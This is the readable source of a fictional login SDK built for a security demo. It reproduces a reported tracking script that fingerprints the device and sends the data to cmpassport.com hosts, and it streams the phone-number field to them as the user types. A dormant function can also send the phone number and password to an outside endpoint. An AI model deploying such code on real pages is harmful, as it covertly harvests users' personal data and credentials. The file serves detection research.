/*
 * DemoSeek login SDK: the readable source of site/static.demoseek-cdn.com/js/sdk.min.js.
 *
 * FICTIONAL. This script is part of aivet's demo service. It imitates what
 * public research (Feroot Security, early 2025) reported about a real AI chat
 * service's login page: an obfuscated first-party-hosted script that
 * fingerprints the device and talks to China Mobile's identity service
 * (cmpassport.com). In the demo every host name is mapped to a local server,
 * so nothing here ever leaves the machine.
 *
 * What it does on every page that loads it:
 *   1. computes a device fingerprint (canvas, screen, timezone, language,
 *      hardwareConcurrency, userAgent, WebGL renderer) and POSTs it as JSON
 *      to http://log.cmpassport.com/log/logReport;
 *   2. sends one "pv" event with navigator.sendBeacon to
 *      http://log.cmpassport.com/log/pv;
 *   3. on `input` events of the phone field (before any submit) sends the
 *      field's current value, base64-encoded, as JSON to
 *      http://log.cmpassport.com/h5/getMobile: at most one report per 150 ms
 *      while typing, then the final value (also flushed on blur).
 * And what it can do but the demo page never enables (capability, not
 * observation): send the phone number and password, base64-encoded, to
 * http://www.cmpassport.com/h5/onekeylogin/authGetToken on submit when
 * window.__DS_SDK_CONF.oneKey === true.
 *
 * Rebuild the obfuscated file with build.sh (see docs/demo.md).
 */
(function (win, doc) {
  'use strict';

  var CONFIG = {
    appId: '300011987654',
    sdkVersion: 'h5-2.1.7',
    logOrigin: 'http://log.cmpassport.com',
    reportPath: '/log/logReport',
    pvPath: '/log/pv',
    mobilePath: '/h5/getMobile',
    authUrl: 'http://www.cmpassport.com/h5/onekeylogin/authGetToken',
    deviceIdKey: '__cm_did',
    throttleMs: 150
  };

  function now() {
    return new Date().getTime();
  }

  function b64(text) {
    // btoa only takes Latin-1: encode to UTF-8 first (a no-op for digits).
    return win.btoa(unescape(encodeURIComponent(String(text))));
  }

  function fnv1a(text) {
    var h = 0x811c9dc5;
    for (var i = 0; i < text.length; i++) {
      h ^= text.charCodeAt(i);
      h = (h + ((h << 1) + (h << 4) + (h << 7) + (h << 8) + (h << 24))) >>> 0;
    }
    return ('0000000' + h.toString(16)).slice(-8);
  }

  function randomId() {
    var out = '';
    for (var i = 0; i < 32; i++) {
      out += Math.floor(Math.random() * 16).toString(16);
    }
    return out;
  }

  function deviceId() {
    try {
      var did = win.localStorage.getItem(CONFIG.deviceIdKey);
      if (!did) {
        did = randomId();
        win.localStorage.setItem(CONFIG.deviceIdKey, did);
      }
      return did;
    } catch (e) {
      return randomId();
    }
  }

  var traceId = randomId();
  var did = deviceId();

  function canvasPrint() {
    try {
      var canvas = doc.createElement('canvas');
      canvas.width = 240;
      canvas.height = 60;
      var ctx = canvas.getContext('2d');
      if (!ctx) {
        return '';
      }
      ctx.textBaseline = 'top';
      ctx.font = "14px 'Arial'";
      ctx.fillStyle = '#f60';
      ctx.fillRect(125, 1, 62, 20);
      ctx.fillStyle = '#069';
      ctx.fillText('Cwm fjordbank glyphs vext quiz, \ud83d\ude03', 2, 15);
      ctx.fillStyle = 'rgba(102, 204, 0, 0.7)';
      ctx.fillText('Cwm fjordbank glyphs vext quiz, \ud83d\ude03', 4, 17);
      return canvas.toDataURL();
    } catch (e) {
      return '';
    }
  }

  function webglRenderer() {
    try {
      var canvas = doc.createElement('canvas');
      var gl = canvas.getContext('webgl') || canvas.getContext('experimental-webgl');
      if (!gl) {
        return '';
      }
      var info = gl.getExtension('WEBGL_debug_renderer_info');
      return info ? String(gl.getParameter(info.UNMASKED_RENDERER_WEBGL)) : String(gl.getParameter(gl.RENDERER));
    } catch (e) {
      return '';
    }
  }

  function timezone() {
    try {
      return Intl.DateTimeFormat().resolvedOptions().timeZone || '';
    } catch (e) {
      return '';
    }
  }

  function fingerprint() {
    var scr = win.screen || {};
    var nav = win.navigator;
    var canvasData = canvasPrint();
    var fp = {
      canvas: canvasData ? fnv1a(canvasData) : '',
      screen: [scr.width, scr.height, scr.colorDepth].join('x'),
      avail: [scr.availWidth, scr.availHeight].join('x'),
      dpr: win.devicePixelRatio || 1,
      tz: timezone(),
      tzOffset: new Date().getTimezoneOffset(),
      lang: nav.language || '',
      langs: (nav.languages || []).join(','),
      cores: nav.hardwareConcurrency || 0,
      memory: nav.deviceMemory || 0,
      touch: nav.maxTouchPoints || 0,
      platform: nav.platform || '',
      ua: nav.userAgent,
      webgl: webglRenderer()
    };
    fp.id = fnv1a(JSON.stringify(fp));
    return fp;
  }

  function postJson(url, payload) {
    try {
      var xhr = new XMLHttpRequest();
      xhr.open('POST', url, true);
      xhr.setRequestHeader('Content-Type', 'application/json;charset=UTF-8');
      xhr.send(JSON.stringify(payload));
    } catch (e) {
      /* a tracker never lets its own failures reach the page */
    }
  }

  function envelope(event) {
    return {
      appId: CONFIG.appId,
      sdkVersion: CONFIG.sdkVersion,
      traceId: traceId,
      did: did,
      event: event,
      page: win.location.href,
      ts: now()
    };
  }

  function reportFingerprint() {
    var body = envelope('fingerprint');
    body.fp = fingerprint();
    postJson(CONFIG.logOrigin + CONFIG.reportPath, body);
  }

  function sendPageView() {
    var body = envelope('pv');
    body.ref = doc.referrer || '';
    body.title = doc.title || '';
    var url = CONFIG.logOrigin + CONFIG.pvPath;
    var data = JSON.stringify(body);
    if (win.navigator.sendBeacon && win.navigator.sendBeacon(url, data)) {
      return;
    }
    postJson(url, body);
  }

  function isPhoneField(el) {
    if (!el || el.tagName !== 'INPUT') {
      return false;
    }
    var name = (el.getAttribute('name') || '') + ' ' + (el.id || '');
    return el.type === 'tel' || /mobile|phone/i.test(name);
  }

  var pending = null;
  var lastSent = '';
  var lastSentAt = 0;

  function sendMobile(value) {
    if (!value || value === lastSent) {
      return;
    }
    lastSent = value;
    lastSentAt = now();
    var body = envelope('mobile');
    body.scene = 'h5login';
    body.mobile = b64(value);
    body.len = value.length;
    postJson(CONFIG.logOrigin + CONFIG.mobilePath, body);
  }

  // Throttled, not debounced: at most one report per interval while the user
  // types (so the number leaves digit by digit), and always the final value.
  function onInput(e) {
    var el = e.target;
    if (!isPhoneField(el) || pending) {
      return;
    }
    var wait = CONFIG.throttleMs - (now() - lastSentAt);
    if (wait <= 0) {
      sendMobile(el.value);
      return;
    }
    pending = win.setTimeout(function () {
      pending = null;
      sendMobile(el.value);
    }, wait);
  }

  function flush(e) {
    var el = e.target;
    if (!isPhoneField(el)) {
      return;
    }
    if (pending) {
      win.clearTimeout(pending);
      pending = null;
    }
    sendMobile(el.value);
  }

  // Dormant unless the page opts in: the demo page never does (see the header).
  function oneKeyLogin(mobile, password) {
    var body = envelope('onekey');
    body.mobile = b64(mobile);
    body.passwd = b64(password);
    body.sign = fnv1a(CONFIG.appId + mobile + body.ts);
    postJson(CONFIG.authUrl, body);
  }

  function onSubmit(e) {
    var conf = win.__DS_SDK_CONF;
    if (!conf || conf.oneKey !== true) {
      return;
    }
    var form = e.target;
    var mobile = form.querySelector('input[type="tel"], input[name="mobile"]');
    var password = form.querySelector('input[type="password"]');
    if (mobile && password) {
      oneKeyLogin(mobile.value, password.value);
    }
  }

  // Listening on the document (capture phase) catches the phone field wherever
  // and whenever the page renders it.
  doc.addEventListener('input', onInput, true);
  doc.addEventListener('blur', flush, true);
  doc.addEventListener('submit', onSubmit, true);

  function start() {
    reportFingerprint();
    sendPageView();
  }

  if (doc.readyState === 'loading') {
    doc.addEventListener('DOMContentLoaded', start);
  } else {
    start();
  }

  win.CMPassportH5 = {
    version: CONFIG.sdkVersion,
    getFingerprint: fingerprint,
    oneKeyLogin: oneKeyLogin
  };
})(window, document);
